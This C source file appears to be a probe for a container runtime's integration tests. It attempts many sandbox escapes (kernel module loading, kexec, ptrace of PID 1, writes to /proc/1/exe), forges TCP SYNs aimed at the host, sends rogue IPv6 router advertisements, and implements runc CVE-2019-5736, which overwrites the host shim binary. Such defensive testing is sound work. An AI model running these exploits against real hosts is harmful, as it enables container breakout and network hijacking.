/*
 * jbox-probe — facts busybox cannot show, checked from inside a container by the integration
 * tests. Built static by the tests and copied into their test image.
 *   jbox-probe shm KEY         exit 0 if a SysV shared memory segment with KEY is visible, else 1
 *   jbox-probe shm-create KEY  create one (run on the host), print its id
 *   jbox-probe shm-remove ID   remove it again
 *   jbox-probe try ATTEMPT     make one escape attempt (vsock-socket, mount, ...); print "ok" or the errno's name (EPERM...)
 *   jbox-probe fds             list this process's open descriptors
 *   jbox-probe ping ADDR       ICMP echo over a datagram socket (no NET_RAW): "reply" or "no reply"
 *   jbox-probe syn IF GW DST PORT   a forged TCP SYN to DST:PORT sent on IF as a frame to the MAC
 *                              of gateway GW (needs NET_RAW): "synack" if one came back, else "none"
 *   jbox-probe ra IF           three IPv6 router advertisements for 2001:db8:66::/64 on IF (NET_RAW)
 *   jbox-probe grab-shim DIR   CVE-2019-5736 from inside: catch exec's jbox-shim child in /proc, keep
 *                              its exe, rewrite it later (DIR/result says how far; see grab_shim)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <linux/reboot.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <unistd.h>

static long attempt(const char *what)
{
	if (!strcmp(what, "mount"))
		return mount("none", "/tmp", "tmpfs", 0, "");
	if (!strcmp(what, "umount"))
		return umount2("/proc", MNT_DETACH);
	if (!strcmp(what, "pivot_root"))
		return syscall(SYS_pivot_root, "/", "/");
	if (!strcmp(what, "unshare-user"))
		return unshare(CLONE_NEWUSER);
	if (!strcmp(what, "unshare-mount"))
		return unshare(CLONE_NEWNS);
	if (!strcmp(what, "clone-user"))
		return syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0) == 0 ? (_exit(0), 0) : -1;
	if (!strcmp(what, "reboot"))
		return syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2, LINUX_REBOOT_CMD_CAD_ON, NULL);
	if (!strcmp(what, "kexec_load"))
		return syscall(SYS_kexec_load, 0, 0, NULL, 0);
	if (!strcmp(what, "init_module"))
		return syscall(SYS_init_module, NULL, 0, "");
	if (!strcmp(what, "finit_module"))
		return syscall(SYS_finit_module, -1, "", 0);
	if (!strcmp(what, "swapon"))
		return swapon("/tmp/no-such-swap", 0);
	if (!strcmp(what, "settimeofday")) {
		struct timeval tv;
		gettimeofday(&tv, NULL); /* the current time: harmless even if it were allowed */
		return settimeofday(&tv, NULL);
	}
	if (!strcmp(what, "sethostname"))
		return sethostname("escaped", 7);
	if (!strcmp(what, "raw-socket"))
		return socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
	if (!strcmp(what, "vsock-socket"))
		return socket(40 /* AF_VSOCK */, SOCK_STREAM, 0);
	if (!strcmp(what, "ping-socket"))
		return socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
	if (!strcmp(what, "ptrace"))
		return ptrace(PTRACE_ATTACH, 1, NULL, NULL);
	if (!strcmp(what, "keyctl"))
		return syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3, 0);
	if (!strcmp(what, "bpf")) {
		union bpf_attr attr;
		memset(&attr, 0, sizeof(attr));
		return syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof(attr));
	}
	if (!strcmp(what, "perf_event_open")) {
		struct perf_event_attr pe;
		memset(&pe, 0, sizeof(pe));
		pe.size = sizeof(pe);
		pe.type = PERF_TYPE_SOFTWARE;
		pe.config = PERF_COUNT_SW_CPU_CLOCK;
		return syscall(SYS_perf_event_open, &pe, 0, -1, -1, 0);
	}
	if (!strcmp(what, "open_by_handle_at")) {
		char buf[sizeof(struct file_handle) + 64];
		struct file_handle *h = (struct file_handle *)buf;
		memset(buf, 0, sizeof(buf));
		h->handle_bytes = 8;
		return syscall(SYS_open_by_handle_at, AT_FDCWD, h, O_RDONLY);
	}
	if (!strcmp(what, "mknod-block"))
		return mknod("/tmp/sda", S_IFBLK | 0600, makedev(8, 0));
	if (!strcmp(what, "sysrq-trigger"))
		return open("/proc/sysrq-trigger", O_WRONLY);
	if (!strcmp(what, "proc-sys-write"))
		return open("/proc/sys/kernel/ns_last_pid", O_WRONLY);
	if (!strcmp(what, "kcore")) {
		int fd = open("/proc/kcore", O_RDONLY);
		char c;
		if (fd < 0)
			return -1;
		if (read(fd, &c, 1) == 1)
			return 0;
		errno = ENODATA; /* masked by /dev/null: nothing to read */
		return -1;
	}
	if (!strcmp(what, "sys-write"))
		return open("/sys/class/net/lo/mtu", O_WRONLY);
	if (!strcmp(what, "exe-write"))
		return open("/proc/self/exe", O_WRONLY);
	if (!strcmp(what, "init-exe-write"))
		return open("/proc/1/exe", O_WRONLY);
	errno = EINVAL;
	fprintf(stderr, "jbox-probe: unknown attempt %s\n", what);
	exit(2);
}

/* The Internet checksum of a buffer, added onto sum (for pseudo-headers). */
static uint16_t checksum(const void *data, size_t len, uint32_t sum)
{
	const uint8_t *p = data;
	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)p[i] << 8 | p[i + 1];
	if (len & 1)
		sum += (uint32_t)p[len - 1] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static uint32_t sum16(const void *data, size_t len)
{
	const uint8_t *p = data;
	uint32_t sum = 0;
	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)p[i] << 8 | p[i + 1];
	return sum;
}

/* Waits up to ms for fd to become readable: the probe's answers are "came back" or "did not". */
static int readable(int fd, int ms)
{
	struct pollfd p = { .fd = fd, .events = POLLIN };
	return poll(&p, 1, ms) == 1;
}

static int ping(const char *addr)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	int fd = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
	if (fd < 0 || inet_pton(AF_INET, addr, &to.sin_addr) != 1) {
		perror("ping socket");
		return 2;
	}
	for (int i = 0; i < 5; i++) {
		struct icmphdr req = { .type = ICMP_ECHO };
		char reply[256];
		req.un.echo.sequence = htons((uint16_t)i);
		if (sendto(fd, &req, sizeof(req), 0, (struct sockaddr *)&to, sizeof(to)) < 0) {
			perror("ping sendto");
			return 2;
		}
		if (readable(fd, 1000) && recv(fd, reply, sizeof(reply), 0) >= (ssize_t)sizeof(req)
				&& ((struct icmphdr *)reply)->type == ICMP_ECHOREPLY) {
			printf("reply\n");
			return 0;
		}
	}
	printf("no reply\n");
	return 1;
}

static int packet_socket(const char *ifname, struct sockaddr_ll *ll, unsigned char mac[6], int proto)
{
	struct ifreq ifr;
	int fd = socket(AF_PACKET, SOCK_RAW, htons(proto));
	if (fd < 0) {
		perror("packet socket");
		exit(2);
	}
	memset(&ifr, 0, sizeof(ifr));
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", ifname);
	if (ioctl(fd, SIOCGIFHWADDR, &ifr) < 0) {
		perror(ifname);
		exit(2);
	}
	memcpy(mac, ifr.ifr_hwaddr.sa_data, 6);
	memset(ll, 0, sizeof(*ll));
	ll->sll_family = AF_PACKET;
	ll->sll_protocol = htons(proto);
	ll->sll_ifindex = (int)if_nametoindex(ifname);
	ll->sll_halen = 6;
	if (bind(fd, (struct sockaddr *)ll, sizeof(*ll)) < 0) {
		perror("bind packet socket");
		exit(2);
	}
	return fd;
}

/* The gateway's MAC from the ARP table, after a datagram to it made both sides resolve each
 * other (the host then also knows our MAC for its answer). 0 when it did not appear in 5 s. */
static int gateway_mac(const char *gateway, unsigned char mac[6])
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(9) };
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (fd < 0 || inet_pton(AF_INET, gateway, &to.sin_addr) != 1)
		return 0;
	sendto(fd, "", 1, 0, (struct sockaddr *)&to, sizeof(to));
	for (int i = 0; i < 500; i++) {
		char line[256], ip[64], hw[64];
		unsigned flags;
		FILE *f = fopen("/proc/net/arp", "r");
		while (f && fgets(line, sizeof(line), f))
			if (sscanf(line, "%63s %*s %x %63s", ip, &flags, hw) == 3 && !strcmp(ip, gateway) && (flags & 2)
					&& sscanf(hw, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) == 6) {
				fclose(f);
				close(fd);
				return 1;
			}
		if (f)
			fclose(f);
		usleep(10000);
	}
	close(fd);
	return 0;
}

/* A TCP SYN from IF's address to DST:PORT in a frame addressed to GATEWAY's MAC: what a container
 * with NET_RAW can send that its own stack would never route (e.g. to the host's 127.0.0.1). */
static int syn(const char *ifname, const char *gateway, const char *dst, int port)
{
	struct sockaddr_ll ll;
	unsigned char self[6], gw[6];
	struct ifreq ifr;
	struct in_addr src, to;
	int fd = packet_socket(ifname, &ll, self, ETH_P_IP);
	int ufd = socket(AF_INET, SOCK_DGRAM, 0);
	memset(&ifr, 0, sizeof(ifr));
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", ifname);
	if (ufd < 0 || ioctl(ufd, SIOCGIFADDR, &ifr) < 0 || inet_pton(AF_INET, dst, &to) != 1 || !gateway_mac(gateway, gw)) {
		fprintf(stderr, "jbox-probe syn: bad interface or address, or no MAC for gateway %s\n", gateway);
		return 2;
	}
	src = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr;
	uint16_t sport = (uint16_t)(40000 + getpid() % 20000);
	unsigned char frame[sizeof(struct ether_header) + sizeof(struct iphdr) + sizeof(struct tcphdr)];
	memset(frame, 0, sizeof(frame));
	struct ether_header *eth = (struct ether_header *)frame;
	struct iphdr *ip = (struct iphdr *)(eth + 1);
	struct tcphdr *tcp = (struct tcphdr *)(ip + 1);
	memcpy(eth->ether_dhost, gw, 6);
	memcpy(eth->ether_shost, self, 6);
	eth->ether_type = htons(ETH_P_IP);
	ip->version = 4;
	ip->ihl = 5;
	ip->tot_len = htons(sizeof(*ip) + sizeof(*tcp));
	ip->ttl = 64;
	ip->protocol = IPPROTO_TCP;
	ip->saddr = src.s_addr;
	ip->daddr = to.s_addr;
	ip->check = checksum(ip, sizeof(*ip), 0);
	tcp->source = htons(sport);
	tcp->dest = htons((uint16_t)port);
	tcp->seq = htonl(0x6a626f78);
	tcp->doff = 5;
	tcp->syn = 1;
	tcp->window = htons(1024);
	uint8_t pseudo[12];
	memcpy(pseudo, &ip->saddr, 4);
	memcpy(pseudo + 4, &ip->daddr, 4);
	pseudo[8] = 0;
	pseudo[9] = IPPROTO_TCP;
	pseudo[10] = 0;
	pseudo[11] = sizeof(*tcp);
	tcp->check = checksum(tcp, sizeof(*tcp), sum16(pseudo, sizeof(pseudo)));
	memcpy(ll.sll_addr, gw, 6);
	for (int i = 0; i < 3; i++) {
		if (sendto(fd, frame, sizeof(frame), 0, (struct sockaddr *)&ll, sizeof(ll)) < 0) {
			perror("send SYN");
			return 2;
		}
		while (readable(fd, 1000)) {
			unsigned char in[1600];
			ssize_t n = recv(fd, in, sizeof(in), 0);
			struct iphdr *rip = (struct iphdr *)(in + sizeof(struct ether_header));
			if (n < (ssize_t)sizeof(frame) || rip->protocol != IPPROTO_TCP || rip->saddr != to.s_addr)
				continue;
			struct tcphdr *rtcp = (struct tcphdr *)((unsigned char *)rip + rip->ihl * 4);
			if (rtcp->dest == htons(sport) && rtcp->syn && rtcp->ack) {
				printf("synack\n");
				return 0;
			}
		}
	}
	printf("none\n");
	return 1;
}

/* Three router advertisements (ff02::1, hop limit 255, from IF's link-local address) announcing
 * 2001:db8:66::/64 for autoconfiguration and this sender as default router. */
static int router_advertisements(const char *ifname)
{
	struct sockaddr_ll ll;
	unsigned char self[6];
	int fd = packet_socket(ifname, &ll, self, ETH_P_IPV6);
	struct __attribute__((packed)) {
		struct ether_header eth;
		struct ip6_hdr ip6;
		struct nd_router_advert ra;
		struct nd_opt_prefix_info prefix;
		uint8_t lladdr[8];
	} f;
	memset(&f, 0, sizeof(f));
	static const unsigned char all_nodes[6] = { 0x33, 0x33, 0, 0, 0, 1 };
	memcpy(f.eth.ether_dhost, all_nodes, 6);
	memcpy(f.eth.ether_shost, self, 6);
	f.eth.ether_type = htons(ETH_P_IPV6);
	f.ip6.ip6_flow = htonl(6u << 28);
	f.ip6.ip6_plen = htons(sizeof(f) - sizeof(f.eth) - sizeof(f.ip6));
	f.ip6.ip6_nxt = IPPROTO_ICMPV6;
	f.ip6.ip6_hlim = 255;
	uint8_t *s = f.ip6.ip6_src.s6_addr; /* fe80::EUI-64 of our MAC */
	s[0] = 0xfe;
	s[1] = 0x80;
	s[8] = self[0] ^ 2;
	s[9] = self[1];
	s[10] = self[2];
	s[11] = 0xff;
	s[12] = 0xfe;
	s[13] = self[3];
	s[14] = self[4];
	s[15] = self[5];
	inet_pton(AF_INET6, "ff02::1", &f.ip6.ip6_dst);
	f.ra.nd_ra_type = ND_ROUTER_ADVERT;
	f.ra.nd_ra_curhoplimit = 64;
	f.ra.nd_ra_router_lifetime = htons(1800);
	f.prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
	f.prefix.nd_opt_pi_len = 4;
	f.prefix.nd_opt_pi_prefix_len = 64;
	f.prefix.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
	f.prefix.nd_opt_pi_valid_time = htonl(86400);
	f.prefix.nd_opt_pi_preferred_time = htonl(14400);
	inet_pton(AF_INET6, "2001:db8:66::", &f.prefix.nd_opt_pi_prefix);
	f.lladdr[0] = ND_OPT_SOURCE_LINKADDR;
	f.lladdr[1] = 1;
	memcpy(f.lladdr + 2, self, 6);
	uint32_t plen = sizeof(f) - sizeof(f.eth) - sizeof(f.ip6);
	uint32_t sum = sum16(&f.ip6.ip6_src, 32) + plen + IPPROTO_ICMPV6;
	f.ra.nd_ra_cksum = checksum(&f.ra, plen, sum);
	memcpy(ll.sll_addr, all_nodes, 6);
	for (int i = 0; i < 3; i++) {
		if (sendto(fd, &f, sizeof(f), 0, (struct sockaddr *)&ll, sizeof(ll)) < 0) {
			perror("send router advertisement");
			return 2;
		}
	}
	printf("sent\n");
	return 0;
}

static const char *errno_name(int e)
{
	switch (e) {
	case EPERM: return "EPERM";
	case ENOENT: return "ENOENT";
	case ESRCH: return "ESRCH";
	case EACCES: return "EACCES";
	case EBUSY: return "EBUSY";
	case EINVAL: return "EINVAL";
	case EROFS: return "EROFS";
	case ETXTBSY: return "ETXTBSY";
	case ENOSYS: return "ENOSYS";
	case EBADF: return "EBADF";
	case EFAULT: return "EFAULT";
	case ENODATA: return "ENODATA";
	case EOPNOTSUPP: return "EOPNOTSUPP";
	case EAFNOSUPPORT: return "EAFNOSUPPORT";
	default: return "EOTHER";
	}
}

/* DIR/result, whole or not at all: the test reads it while we run. */
static void put_result(const char *dir, const char *text)
{
	char tmp[4096], path[4096];
	snprintf(tmp, sizeof(tmp), "%s/result.tmp", dir);
	snprintf(path, sizeof(path), "%s/result", dir);
	FILE *f = fopen(tmp, "w");
	if (!f || fputs(text, f) < 0 || fclose(f) != 0 || rename(tmp, path) < 0) {
		perror("jbox-probe: result");
		exit(2);
	}
}

/* /proc/PID/cmdline's first argument, "" if gone (readable even when exe is not). */
static const char *first_arg(const char *pid, char *buf, size_t size)
{
	char path[300];
	snprintf(path, sizeof(path), "/proc/%s/cmdline", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, buf, size - 1);
	if (fd >= 0)
		close(fd);
	buf[n > 0 ? n : 0] = 0;
	return buf;
}

/* As the container's PID 1 the probe must outlive the exec it caught: its end would kill that. */
static __attribute__((noreturn)) int stay(void)
{
	for (;;)
		pause();
}

/* Holding the shim's exe: wait for DIR/go, then truncate and rewrite the binary through the fd. */
static int rewrite(const char *dir, int fd, const char *link)
{
	char path[300], text[8192];
	snprintf(text, sizeof(text), "grabbed %s\n", link);
	put_result(dir, text);
	snprintf(path, sizeof(path), "%s/go", dir);
	while (access(path, F_OK) != 0)
		usleep(10000);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	int w = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
	const char payload[] = "#!/bin/sh\necho overwritten from a container\n";
	int ok = w >= 0 && write(w, payload, sizeof(payload) - 1) == (ssize_t)sizeof(payload) - 1;
	snprintf(text + strlen(text), sizeof(text) - strlen(text), "write %s\n", ok ? "ok" : errno_name(errno));
	put_result(dir, text);
	return stay();
}

/*
 * Follows one process that runs jbox-shim (exec's child, until its execve): the moment its
 * /proc/PID/exe opens, the fd is kept (rewrite). Returns if the process went before any answer;
 * writes "denied ERRNO" (and stays) if it was refused the link until its execve or its end.
 */
static void follow(const char *dir, const char *pid)
{
	char path[300], link[4096];
	int denied = 0;
	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	for (;;) {
		int fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0 && (errno == EACCES || errno == EPERM)) {
			denied = errno;
			continue;
		}
		if (fd < 0)
			break; /* gone (a zombie has no exe) */
		char self[64];
		snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
		ssize_t n = readlink(self, link, sizeof(link) - 1);
		link[n > 0 ? n : 0] = 0;
		if (strstr(link, "jbox-shim"))
			rewrite(dir, fd, link);
		close(fd);
		break; /* it reached its execve: that is the workload's binary */
	}
	if (denied) {
		snprintf(link, sizeof(link), "denied %s\n", errno_name(denied));
		put_result(dir, link);
		stay();
	}
}

/*
 * runc's CVE-2019-5736 from inside: say DIR/ready, then spin over /proc for a process whose first
 * argument names jbox-shim (the test runs `exec ID true`) and follow it. DIR/result says how far
 * the attack got: "grabbed LINK" then "write ok|ERRNO", or "denied ERRNO".
 */
static __attribute__((noreturn)) int grab_shim(const char *dir)
{
	char path[300], arg[4096];
	snprintf(path, sizeof(path), "%s/ready", dir);
	close(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
	for (;;) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d)) != NULL) {
			if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
				continue;
			const char *a = first_arg(e->d_name, arg, sizeof(arg)), *base = strrchr(a, '/');
			if (strcmp(base ? base + 1 : a, "jbox-shim") == 0)
				follow(dir, e->d_name);
		}
		if (d)
			closedir(d);
		sched_yield();
	}
}

int main(int argc, char **argv)
{
	if (argc == 3 && strcmp(argv[1], "grab-shim") == 0)
		return grab_shim(argv[2]);
	if (argc == 3 && strcmp(argv[1], "shm") == 0) {
		int id = shmget((key_t)strtol(argv[2], NULL, 0), 0, 0);
		printf("%s\n", id >= 0 ? "visible" : "invisible");
		return id >= 0 ? 0 : 1;
	}
	if (argc == 3 && strcmp(argv[1], "shm-create") == 0) {
		int id = shmget((key_t)strtol(argv[2], NULL, 0), 4096, IPC_CREAT | IPC_EXCL | 0600);
		if (id < 0) {
			perror("shmget");
			return 1;
		}
		printf("%d\n", id);
		return 0;
	}
	if (argc == 3 && strcmp(argv[1], "shm-remove") == 0)
		return shmctl(atoi(argv[2]), IPC_RMID, NULL) < 0 ? 1 : 0;
	if (argc >= 3 && strcmp(argv[1], "try") == 0) {
		for (int i = 2; i < argc; i++) {
			errno = 0;
			long rc = attempt(argv[i]);
			printf("%s %s\n", argv[i], rc >= 0 ? "ok" : errno_name(errno));
		}
		return 0;
	}
	if (argc == 2 && strcmp(argv[1], "fds") == 0) {
		DIR *d = opendir("/proc/self/fd");
		struct dirent *e;
		while (d && (e = readdir(d)) != NULL)
			if (e->d_name[0] != '.')
				printf("%s\n", e->d_name);
		return 0;
	}
	if (argc == 3 && strcmp(argv[1], "ping") == 0)
		return ping(argv[2]);
	if (argc == 6 && strcmp(argv[1], "syn") == 0)
		return syn(argv[2], argv[3], argv[4], atoi(argv[5]));
	if (argc == 3 && strcmp(argv[1], "ra") == 0)
		return router_advertisements(argv[2]);
	fprintf(stderr, "usage: jbox-probe shm|shm-create KEY | shm-remove ID | try ATTEMPT... | fds | ping ADDR"
			" | syn IF GW DST PORT | ra IF | grab-shim DIR\n");
	return 2;
}
